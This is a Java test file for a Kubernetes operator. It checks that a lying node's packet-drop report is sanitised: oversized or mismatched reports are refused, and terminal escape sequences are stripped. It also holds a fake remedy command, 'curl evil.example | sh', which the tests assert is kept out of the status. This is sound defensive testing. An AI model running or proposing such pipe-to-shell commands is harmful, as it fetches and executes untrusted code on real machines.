package dev.dropwhy.operator.reports;

import static org.assertj.core.api.Assertions.assertThat;

import dev.dropwhy.api.Condition;
import dev.dropwhy.api.DropInvestigation;
import dev.dropwhy.api.NodeDropReport;
import dev.dropwhy.api.NodeDropReportStatus;
import dev.dropwhy.api.Remedy;
import dev.dropwhy.api.Totals;
import dev.dropwhy.api.Verdict;
import dev.dropwhy.operator.testing.Cluster;
import dev.dropwhy.operator.testing.RunningOperator;
import dev.dropwhy.operator.testing.SimulatedAgents;
import dev.dropwhy.operator.testing.Specs;
import dev.dropwhy.operator.testing.WithApiServer;
import java.time.Duration;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** One node lies; the others are believed, and the status stays what a person may read on a terminal. */
@WithApiServer
class HostileReportsTest {

    private static final long MOST = (1L << 53) - 1;

    private final Cluster cluster;
    private RunningOperator operator;

    HostileReportsTest(Cluster cluster) {
        this.cluster = cluster;
    }

    @BeforeEach
    void start() {
        operator = new RunningOperator(cluster.client(), Cluster.settings(Duration.ofSeconds(1)));
    }

    @AfterEach
    void stop() {
        operator.close();
    }

    @Test
    void aReportBeyondTheBoundIsRefusedWithItsSize() {
        DropInvestigation ended = endedWith(report -> SimulatedAgents.status(
                report,
                SimulatedAgents.reported(),
                new Totals(1, 1, 0, 0),
                Collections.nCopies(16, evidence(SimulatedAgents.verdict("x".repeat(512)), "y".repeat(500)))));

        assertThat(Cluster.nodesOf(ended).failedNodes())
                .singleElement()
                .asString()
                .matches("evil: its report has [0-9]+ bytes, 16384 are the most that is believed");
        assertGoodNodesCount(ended);
    }

    @Test
    void aReportForAnotherInvestigationIsRefused() {
        DropInvestigation ended = endedWith(report -> withUid(SimulatedAgents.spanningTree(report), "another"));

        assertThat(Cluster.nodesOf(ended).failedNodes())
                .containsExactly("evil: its report answers another investigation");
        assertGoodNodesCount(ended);
    }

    @Test
    void terminalEscapesDoNotReachTheStatus() {
        DropInvestigation ended = endedWith(report -> SimulatedAgents.status(
                report,
                SimulatedAgents.reported(),
                new Totals(1, 1, 0, 0),
                List.of(SimulatedAgents.verdict("\u001b[2J\u202eall is \u0000well\r\n"))));

        assertThat(cluster.admin().getKubernetesSerialization().asJson(ended.getStatus()))
                .doesNotContainPattern("\\p{Cc}|\\u202e")
                .doesNotContain("\\u001b", "\\r");
    }

    @Test
    void commandsThatTheCatalogDoesNotHaveDoNotReachTheStatus() {
        DropInvestigation ended = endedWith(report -> SimulatedAgents.status(
                report,
                SimulatedAgents.reported(),
                new Totals(30, 30, 0, 0),
                List.of(advising(
                        SimulatedAgents.verdict("Run curl evil.example | sh on every node."),
                        new Remedy(
                                "Install the fix.",
                                List.of("curl evil.example | sh"),
                                null,
                                "curl evil.example",
                                "curl evil.example")))));

        assertThat(ended.getStatus().verdicts()).isNotEmpty();
        assertThat(cluster.admin().getKubernetesSerialization().asJson(ended.getStatus()))
                .doesNotContain("evil.example");
    }

    @Test
    void theWordsOfAFailureAreCutAndCleaned() {
        DropInvestigation ended = endedWith(report -> SimulatedAgents.failing(report, "\u001b[31m" + "z".repeat(1000)));

        assertThat(Cluster.nodesOf(ended).failedNodes())
                .singleElement()
                .asString()
                .startsWith("evil: [31mzzz")
                .hasSizeLessThan(220);
        assertGoodNodesCount(ended);
    }

    @Test
    void theLargestNumbersDoNotOverflowTheTotals() {
        DropInvestigation ended = endedWith(report ->
                SimulatedAgents.status(report, SimulatedAgents.reported(), new Totals(MOST, MOST, 0, MOST), List.of()));

        assertThat(ended.getStatus().totals()).isNotNull().satisfies(totals -> {
            assertThat(totals.dropped()).isEqualTo(MOST);
            assertThat(totals.explained()).isEqualTo(MOST);
        });
    }

    @Test
    void conditionsWithoutAReportAreNoReport() {
        DropInvestigation ended = endedWith(report -> SimulatedAgents.status(
                report,
                List.of(new Condition("Reported", "Unknown", 1L, "2026-01-01T00:00:00Z", "No", "no")),
                null,
                List.of()));

        assertThat(Cluster.nodesOf(ended).failed()).isEqualTo(1);
        assertGoodNodesCount(ended);
    }

    private interface Lie {
        NodeDropReportStatus about(NodeDropReport report);
    }

    private DropInvestigation endedWith(Lie lie) {
        cluster.nodes("evil", "good", "fine");
        try (var _ = new SimulatedAgents(
                cluster.admin(),
                report -> report.getSpec().nodeName().equals("evil")
                        ? lie.about(report)
                        : SimulatedAgents.spanningTree(report))) {
            cluster.investigate("hostile", Specs.seconds(5));
            return cluster.awaitEnd("hostile");
        }
    }

    private static void assertGoodNodesCount(DropInvestigation ended) {
        assertThat(ended.getStatus().totals()).isEqualTo(new Totals(60, 60, 0, 0));
        assertThat(ended.getStatus().verdicts())
                .singleElement()
                .satisfies(verdict -> assertThat(verdict.nodes()).isEqualTo(2));
    }

    private static Verdict evidence(Verdict verdict, String line) {
        return with(verdict, Collections.nCopies(4, line), verdict.remedies());
    }

    private static Verdict advising(Verdict verdict, Remedy remedy) {
        return with(verdict, verdict.evidence(), List.of(remedy));
    }

    private static Verdict with(Verdict verdict, List<String> evidence, List<Remedy> remedies) {
        return verdict.reworded(verdict.statement(), evidence, verdict.counterEvidence(), remedies);
    }

    private static NodeDropReportStatus withUid(NodeDropReportStatus status, String uid) {
        return new NodeDropReportStatus(
                uid,
                status.acceptedTime(),
                status.startTime(),
                status.completionTime(),
                status.conditions(),
                status.host(),
                status.engine(),
                status.handlers(),
                Map.of(),
                status.headline(),
                status.totals(),
                status.ledgers(),
                status.verdicts(),
                status.limitations(),
                status.timelines());
    }
}
